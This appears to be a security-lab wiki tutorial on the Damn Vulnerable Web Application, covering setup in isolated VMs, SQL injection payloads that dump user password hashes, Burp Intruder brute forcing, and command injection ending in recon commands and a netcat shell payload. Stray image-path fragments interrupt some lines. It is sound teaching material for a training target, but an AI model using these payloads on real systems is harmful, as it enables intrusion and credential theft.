From Embedded Lab Vienna for IoT & Security
Jump to navigation Jump to search

The so-called damn vulnerable web app (DVWA) is also a vulnerable PHP / MySQL web service [[1]]. It is very similar to bWAPP. DVWA is free and can be used by anyone. The purpose of this application is to improve and test the skills and tools of security professionals and enthusiasts in a legal and secure environment. It is also used to explore the different vulnerabilities in four difficulties. More detailed explanations and information can be found on the DVWA homepage or at the GitHub page.


As already mentioned, the Damn Vulnerable Web Application (DVWA) is a free PHP application which is like bWAPP. It also uses a SQL database to persist information. The service is provided by Linux or Windows. XAMPP is also supported.

DVWA architecture.png

Installation (1)

The installation of DVWA is very similar to that of bWAPP. Because the application is very fragile, it is recommended to install it on a virtual machine, and not in the public HTML folder. The following steps show a successful installation:

  • The application could be downloaded on the official homepage of DVWA (http://www.dvwa.co.uk/). The ZIP file is extracted on any path.
DVWA official Website.png

  • The name of the folder is changed to “dvwa” and in the /xampp/htdocs path copied from XAMPP. Apache and MySQL should be activated in the XAMPP control panel.
  • The password is deleted from the configuration file “config.inc.php.dist”.
DVWA configfile.png

  • /localhost/dvwa is called by the browser, which leads you to the login.
    • Username is “admin”
    • Password is “password”
  • Now you are logged in and ready to work with DVWA.
DVWA installed andready to use.png

Note: Before you start, the database should be set or reset.

Installation (2)

This is an alternative way of setting up the DVWA, which is sometimes more reliable than the first one. It requires creating a VM with a DVWA iso file, like you would do with any other VM. You just need to choose the correct ISO during setup. It can be downloaded here: https://www.vulnhub.com/entry/damn-vulnerable-web-application-dvwa-107,43/. Once the DVWA VM is running, you can access it in the browser of another VM via: http://<IP_DVWA_VM>/login.php. You just need to choose NAT as network setting on both used VMs, so that they aren't exposed to the actual network. Exposing the DVWA to the network is very dangerous, as this is in fact a very vulnerable server. Should it get compromised from outside, the attacker wouldgain access to your home network.

SQL injection

Let's look at the SQL injection vulnerability.

  • In contrast to bWAPP, no search terms are entered in the search field, here we are searching by an identification number (ID) of the user in the database. An identification number returns the first name and last name of a user.
DVWA search.PNG

  • When we enter "1" in the search field, the query being sent to the database really looks like this:
$query  = "SELECT first_name, last_name FROM users WHERE user_id = '$id';";
$query  = "SELECT first_name, last_name FROM users WHERE user_id = 1;";
  • If we enter "1'" in the search field, we will get a syntax error with the associated error message. So, we recognize that the parameters in the URL are vulnerable to error-based SQL injection. This means we can send commands (queries) to the database to extract some information. The displayed error message is:
You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near 1' at line 1
  • Next we can try executing an always true query. The example SQL code would look like this:SELECT first_name, last_name FROM users WHERE user_id = 'a' OR '1'='1'
  • When we enter a’ or ‘1’=‘1 in the ID field, sending an always-true query, we get all users with their first and last names from the database.

  • For union-based SQLi we need to know the number of columns in a table to be able to execute an UNION query. To find this, we enter 1' order by 9# to try if the table has 9 columns. This returns an error, meaning we need to lower the number until we get an actual result. After several tires, DVWA returns actual contents whenentering number 2. This means, our table of users has 2 columns.
  • Next we can try the union-based SQLi. We start with entering 1' union select 1,2 #, which will simply return the numbers 1 and 2 in a certain spot. This spot is where we can then extract whatever information is desired. The hashtag # comments out anything that comes after, simply making sure nothing interferes with the query.
  • We can try entering the following in the ID field: 1' union selectdatabase(),user() #, which returns the database name and current user in the same position.
  • Now that we know the database name, we can extract the tables in this database by 1' union select table_name,2 from information_schema.tables where table_schema='dvwa' #. This returns the following:
  • This tells us there are two tables in the database - users and guestbook. Here we utilize INFORMATION_SCHEMA, which provides metadata about our database.
  • Now we can discover what columns exist in the table "users". We enter the query 1' union select column_name,2 from information_schema.columns where table_name='users' #, which results into the following:
  • Knowing the names of the columns now allows us to extract the specific values from them. Let's look at all usernames and passwords from the table "users". We do this with the query 1' union select user,password from users #:
  • Unfortunately, the data is hashed, and we have to use external software to crack them (John the Ripper). For this we can collect the usernames and passwords in one file like so and run Jack:
John pass hash.PNG
  • Now we have extracted the passwords with usernames and are therefore able to penetrate the database. In a real web application setting, this is extremely dangerous to know the admin user, as this would allow the attacker to do practically anything.

Brute force

For this attack, we will be using a Kali Linux machine with BurpSuite and Hydra. With the proxy we will be intercepting traffic between the DVWA and BurpSuite's browser. First, let's select low security in the DVWA and head to the "Brute Force" navigation tab. Here, we see a login form with a username and password. We will enter some test data and look at the request in BurpSuite:

username: username
password: password
  • Dvwa1.png

Now, click on "Send to Intruder" and change to the Intruder tab in BurpSuite. Now click on Positions, and for Attack type choose "Cluster bomb". Click on "Clear §" onthe right and then select the entered username and password values and click "Add §" on the right.

  • Dvwa2.png

Now go to the Payloads tab to "Payload options" and load the wordlist /usr/share/wordlists/metasploit/http_default_users.txt. Scroll up to "Payload Sets" and select 2. Now go to "Payload options" again and load a second wordlist /usr/share/wordlists/metasploit/http_default_pass.txt
Now, go to the Options tab (still inside the Intruder) and clear the Grep-Match list. Then enter "Username and/or password incorrect.", which is exactly what the DVWA outputs on this login page in the case of an incorrect login attempt, and add it to the Grep-Match list. Scroll up and Start attack. We are looking for entries with the unchecked "username" column. The output shouldlook something like this:

  • Dvwa3.png

In our case this is

username: admin
password: password

After entering in to the login form, we are successfully logged in and get the message:

Welcome to the password protected area admin

Command execution

The command execution vulnerability occurs when the application allows the execution of system commands. It can be very dangerous depending on the type of command and its impact on the system. Let's demonstrate this with a simple ECHO command (keep in mind, this is a PHP application).

  • Medium and low security level
  • High security levelWe can see the difference between the security levels, which is based on the source code of the DVWA:

Low security level: no input validation


if( isset( $_POST[ 'Submit' ]  ) ) {
       // Get input
       $target = $_REQUEST[ 'ip' ];

       // Determine OS and execute the ping command.
       if( stristr( php_uname( 's' ), 'Windows NT' ) ) {
               // Windows
               $cmd = shell_exec( 'ping  ' . $target );else {
               // *nix
               $cmd = shell_exec( 'ping  -c 4 ' . $target );

       // Feedback for the end user
       $html .= "<pre>{$cmd}</pre>";

Medium security level: Here, the rest of the code looks like low level security, but has an added part for substituting '&&' and ';'.

// Set blacklist
$substitutions = array(
       '&&' => ,
       ';'  => ,

// Remove any of the charactars in the array (blacklist).
$target = str_replace( array_keys( $substitutions ), $substitutions, $target );

High security level: The "substitutions" array contents way more characters, also including the pipe | character. This is why the DVWA reacted as it did in the previously shown examples.

// Set blacklist
$substitutions = array(
       '&'  => ,';'  => ,
       '| ' => ,
       '-'  => ,
       '$'  => ,
       '('  => ,
       ')'  => ,
       '`'  => ,
       '||' => ,

Now we will perform a series of information gathering commands on low security setting as demonstrated below.

  • Show the current directory's contents
  • Show in which directory path we currently find ourselves
  • Who is the current user
  • List the currently running processes• List information about the users read out from the /etc/passwd file
cat /etc/passwd
  • Discover the hostname and the users that are logged in
uname -a & users & id & w
  • Command execution - Low security level

To for example create a reverse shell, you can set up a listener on another VM (let's choose port 4444, the listener command on a Kali Linux VM is nc -lvp 4444) and enterthe following into the DVWA input field:

1 | netcat -v -e'/bin/bash' -l -p 4444